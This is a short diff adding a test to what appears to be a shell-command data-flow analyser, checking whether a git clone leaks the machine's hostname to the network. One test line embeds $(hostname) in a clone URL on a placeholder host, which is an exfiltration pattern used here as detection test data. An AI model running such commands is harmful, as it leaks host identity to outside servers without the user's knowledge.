@@ -271,3 +271,9 @@ describe('a command that is given as a program and words', () => {
     expect(ran(`${HOLE} ${HOLE}`)).toEqual(['process.spawn']);
   });
 });
+
+test('where a clone is put on this machine is told to nobody', () => {
+  const told = (text: string): string[] => flows(text, 'net.out').filter((source) => source.startsWith('identity'));
+  expect(told('git clone https://h.example/r.git "$(hostname)"')).toEqual([]);
+  expect(told('git clone "https://h.example/$(hostname).git" /tmp/r')).not.toEqual([]);
+});
